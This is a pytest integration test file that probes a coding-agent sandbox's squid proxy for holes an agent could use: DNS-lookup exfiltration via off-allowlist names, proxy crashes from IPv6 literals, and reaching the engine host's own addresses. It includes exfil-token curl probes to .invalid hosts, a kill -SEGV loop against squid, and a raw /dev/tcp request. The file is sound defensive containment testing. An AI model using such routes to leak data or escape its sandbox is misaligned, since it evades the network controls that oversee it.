"""Holes an agent could use through its own proxy (issue 12, items 1-3), probed from inside sessions
launched by our CLI; each probe has a positive control showing it could have caught the hole.

Only names under .invalid, this machine's own addresses and containers these tests start are
contacted.
"""

from __future__ import annotations

import http.server
import json
import secrets
import subprocess
import threading
import time
from pathlib import Path

import pytest

from tests.integration.conftest import docker, inside, launched_name, list_row, wait_for

PROXY = "http://proxy:3128"


def proxy_pid(name: str) -> int:
    return int(docker("inspect", "--format", "{{.State.Pid}}", f"{name}-proxy").stdout.decode().strip())


class DnsCapture:
    """tcpdump in the proxy's network namespace: every DNS packet squid sends, with its payload."""

    def __init__(self, name: str):
        self.process = subprocess.Popen(
            ["nsenter", f"--net=/proc/{proxy_pid(name)}/ns/net", "tcpdump", "-l", "-n", "-i", "any", "-A",
             "-s", "0", "udp or tcp port 53 or host 127.0.0.11"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, errors="replace")
        time.sleep(1.0)  # tcpdump needs a moment before it captures

    def stop(self) -> str:
        time.sleep(1.0)
        self.process.terminate()
        out, err = self.process.communicate(timeout=30)
        assert "listening on" in err, err
        return out


def curl_status(name: str, *args: str) -> str:
    # --noproxy '': the session's NO_PROXY names ::1, which would send that probe around the proxy
    done = inside(name, "curl -s -m 10 --noproxy '' -o /dev/null -w '%{http_code}' -x " + PROXY + " " + " ".join(args),
                  check=False)
    return done.stdout.strip()


@pytest.fixture
def squid_shell(cli, new_repo):
    """Launch a shell session in squid mode with extra flags; its name."""
    def launch(*flags: str, env: dict[str, str] | None = None) -> str:
        return launched_name(cli("launch-agent", "shell", str(new_repo()), *flags, env=env))

    return launch


# --- 1. no DNS lookup for a name that is not on the allowlist ------------------------------------


def test_names_off_the_allowlist_are_refused_without_a_dns_lookup(squid_shell):
    token = "exfil" + secrets.token_hex(6)
    allowed = "allowed" + secrets.token_hex(6)
    name = squid_shell("--allow-domain", f"{allowed}.invalid")  # default config: block_private on
    capture = DnsCapture(name)

    denied_http = curl_status(name, f"http://{token}-a.invalid/")
    denied_connect = curl_status(name, f"https://{token}-b.invalid/")
    control = curl_status(name, f"http://{allowed}.invalid/")  # on the list: squid resolves it

    packets = capture.stop()
    assert denied_http == "403" and denied_connect in ("000", "403"), (denied_http, denied_connect)
    assert token not in packets, "squid looked up a name that is not on the allowlist"
    # Positive control: the capture sees squid's lookups (the allowed name fails to resolve: .invalid).
    assert allowed in packets, packets[-2000:]
    assert control in ("503", "502", "504", "500"), control


# --- 2. no request crashes the proxy; a dead proxy is reported ------------------------------------


def restarts(name: str) -> int:
    return int(docker("inspect", "--format", "{{.RestartCount}}", f"{name}-proxy").stdout.decode().strip())


def test_ipv6_literal_targets_cannot_crash_the_proxy_even_in_learn_mode(cli, squid_shell):
    name = squid_shell("--learn")

    answers = [curl_status(name, "http://[::1]/"), curl_status(name, "http://[::]/"),
               curl_status(name, "-p", "https://[::1]/")]
    time.sleep(1.0)

    assert answers[:2] == ["403", "403"], answers
    assert docker("inspect", "--format", "{{.State.Status}}", f"{name}-proxy").stdout.decode().strip() == "running"
    assert restarts(name) == 0
    logged = cli("logs", name, "--network", "--json")
    decisions = [json.loads(line) for line in logged.stdout.splitlines() if line.strip()]
    assert sum(1 for d in decisions if d["decision"] == "denied" and ":" in d["host"]) >= 3, decisions
    # Positive control: a crash would have shown as a restart (the proxy comes back by itself).
    docker("exec", f"{name}-proxy", "bash", "-c",
           'for d in /proc/[0-9]*; do [ "$(cat $d/comm)" = squid ] && kill -SEGV "${d#/proc/}"; done', check=False)
    wait_for(lambda: restarts(name) >= 1, 30, "the killed proxy to be restarted")
    wait_for(lambda: curl_status(name, "http://[::1]/") == "403", 30, "the proxy to answer again")


def test_a_dead_proxy_is_reported_by_list_agents_and_logs(cli, squid_shell):
    name = squid_shell()
    assert list_row(cli, name)["proxy"] == "running"

    docker("stop", f"{name}-proxy")

    row = list_row(cli, name)
    assert row["proxy"] == "exited", row
    table = cli("list-agents")
    assert "(proxy down)" in next(line for line in table.stdout.splitlines() if line.startswith(name))
    logs = cli("logs", name, "--network")
    assert f"==> warning: the proxy of {name} is exited" in logs.stderr, logs.stderr
    # connect-agent's recovery brings it back (it starts the proxy before attaching).
    docker("start", f"{name}-proxy")
    assert list_row(cli, name)["proxy"] == "running"


# --- 3. the engine host's own addresses are not reachable through the proxy ----------------------


def host_address() -> str:
    """An address of this machine that is not loopback (e.g. eth0's)."""
    from agents import network

    for address in network.local_addresses(Path("/proc/net/fib_trie").read_text(), ""):
        if not address.startswith(("127.", "172.17.", "10.213.")):
            return address
    pytest.fail("this machine has no address besides loopback and Docker's bridges")


@pytest.fixture
def host_http_server():
    """An HTTP server on port 80 of this machine's own address, answering 200."""
    address = host_address()

    class Hello(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            self.send_response(200)
            self.send_header("Content-Length", "5")
            self.end_headers()
            self.wfile.write(b"host\n")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer((address, 80), Hello)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield address
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("flags", [("--learn",), ()], ids=["learn", "allowlist-with-block-private-off"])
def test_the_engine_hosts_own_addresses_are_denied_through_the_proxy(squid_shell, host_http_server, tmp_path,
                                                                     flags):
    address = host_http_server
    config = tmp_path / "open.toml"
    from tests.integration.conftest import write_config

    write_config(tmp_path / "h")
    config.write_text((tmp_path / "h" / ".config" / "coding-agents" / "config.toml").read_text()
                      + "\n[network]\nblock_private = false\n")
    name = squid_shell(*flags, "--allow-domain", address, env={"CODING_AGENTS_CONFIG": str(config)})

    status = curl_status(name, f"http://{address}/")

    assert status == "403", status
    body = inside(name, f"curl -s -m 10 -x {PROXY} http://{address}/", check=False).stdout
    assert "Rule: <b>the engine host</b>" in body, body  # the host rule comes before the private ranges
    # Positive control: from the proxy's own network namespace the server answers, so only the
    # proxy's policy stands in the way.
    reached = docker("exec", f"{name}-proxy", "bash", "-c",
                     f"exec 3<>/dev/tcp/{address}/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", check=False)
    assert b"200" in reached.stdout and b"host" in reached.stdout, reached
